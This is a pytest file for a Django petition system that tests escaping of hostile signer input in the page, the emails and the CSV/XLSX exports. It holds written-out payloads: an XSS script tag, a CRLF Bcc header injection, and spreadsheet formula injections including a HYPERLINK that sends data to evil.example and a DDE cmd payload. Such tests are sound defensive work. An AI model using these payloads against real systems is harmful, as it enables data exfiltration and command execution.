import csv
import io

import openpyxl
import pytest
from django.urls import reverse

from cms import deliveries, reconcile, signing
from cms.models import Signature

from .factories import LeadFactory, SignatureFactory, lead_token
from .test_deliveries import pdf_text

pytestmark = pytest.mark.django_db

HOSTILE = '<script>alert("x")</script>'


@pytest.fixture
def lead(index_page):
    """A campaign lead of the test campaign: sees its signatures (the admin and an API token), edits no pages."""
    return LeadFactory(campaigns=[index_page])


def test_html_in_a_name_is_escaped_in_the_feed_and_the_page_and_left_out_of_the_email(
    petition, sign, mailoutbox, client, django_capture_on_commit_callbacks
):
    sign(petition, first_name=HOSTILE)
    signature = Signature.objects.get()
    with django_capture_on_commit_callbacks(execute=True):
        signature.verify()
    reconcile.reconcile_counts([petition.pk])

    page = client.get(petition.url).content.decode()
    html_email = mailoutbox[0].alternatives[0][0]

    escaped = "&lt;script&gt;alert(&quot;x&quot;)&lt;/script&gt;"
    assert escaped in page
    assert HOSTILE not in page
    # The email carries nothing the signer typed, escaped or not.
    assert escaped not in html_email
    assert HOSTILE not in html_email
    assert "script" not in mailoutbox[0].body + mailoutbox[0].subject


def test_a_name_cannot_inject_an_email_header(petition, mailoutbox, django_capture_on_commit_callbacks):
    petition.verification_email_subject = "Thanks {first_name}"
    petition.save()
    with django_capture_on_commit_callbacks(execute=True):
        signing.sign_petition(petition, {"first_name": "Ada\r\nBcc: evil@example.org", "email": "a@example.org"})

    assert mailoutbox[0].subject == "Thanks there"
    assert mailoutbox[0].bcc == []


# --- spreadsheets: every CSV and XLSX we write ----------------------------------------------

#: Values a spreadsheet would run as a formula (OWASP "CSV Injection"), each with the cell we write.
FORMULAS = {
    '=HYPERLINK("https://evil.example/?d="&A1,"Open")': '\'=HYPERLINK("https://evil.example/?d="&A1,"Open")',
    "=cmd|' /C calc'!A0": "'=cmd|' /C calc'!A0",
    "-2+3": "'-2+3",
    "+1": "'+1",
    "@SUM(1+1)": "'@SUM(1+1)",
    "\t=1+1": "'\t=1+1",
    "\r=1+1": "'\r=1+1",
}
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
INNER_DASH = "Jean-Luc"


@pytest.fixture
def hostile_signers(petition):
    for i, name in enumerate([*FORMULAS, INNER_DASH]):
        SignatureFactory(
            petition=petition, first_name=name, last_name="", email=f"s{i}@example.org",
            verified=True, share_with_officials=True, country="GB",
        )  # fmt: skip
    return petition


def assert_no_cell_is_a_formula(rows):
    cells = [cell for row in rows for cell in row if isinstance(cell, str)]
    assert [cell for cell in cells if cell.startswith(FORMULA_STARTS)] == []


def test_the_delivery_csv_escapes_formulas_and_the_pdf_shows_names_as_typed(hostile_signers, official, commit):
    delivery = commit(deliveries.prepare_delivery, hostile_signers, [official])
    delivery.refresh_from_db()

    rows = list(csv.reader(io.StringIO(delivery.csv_file.open("rb").read().decode(), newline="")))
    names = {row[0] for row in rows[1:]}
    # The delivery strips the spaces around a name (as before); what is left is escaped.
    assert names == {"'" + name.strip() for name in FORMULAS} | {INNER_DASH}
    assert_no_cell_is_a_formula(rows)
    pdf = pdf_text(delivery.pdf_file.open("rb").read())
    assert "=cmd|' /C calc'!A0" in pdf
    assert "'=cmd" not in pdf


@pytest.mark.parametrize("export_format", ["csv", "xlsx"])
def test_the_admin_signatures_export_escapes_formulas(hostile_signers, client, lead, export_format):
    client.force_login(lead)

    response = client.get(reverse("petitions_signatures:index"), {"export": export_format})

    assert response.status_code == 200
    body = b"".join(response.streaming_content)
    if export_format == "csv":
        rows = list(csv.reader(io.StringIO(body.decode(), newline="")))
    else:
        rows = [list(row) for row in openpyxl.load_workbook(io.BytesIO(body)).active.iter_rows(values_only=True)]
    first_names = {row[rows[0].index("First name")] for row in rows[1:]}
    expected = set(FORMULAS.values()) | {INNER_DASH}
    if export_format == "xlsx":  # XML text reads a carriage return back as a line feed
        expected = {value.replace("\r", "\n") for value in expected}
    assert first_names == expected
    assert_no_cell_is_a_formula(rows)


def test_the_api_signatures_csv_escapes_formulas(hostile_signers, client, lead):
    token = lead_token(lead)

    response = client.get(
        f"/api/petitions/{hostile_signers.pk}/signatures.csv", headers={"Authorization": f"Bearer {token}"}
    )

    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode(), newline="")))
    first_names = {row[rows[0].index("first_name")] for row in rows[1:]}
    assert first_names == set(FORMULAS.values()) | {INNER_DASH}
    assert_no_cell_is_a_formula(rows)
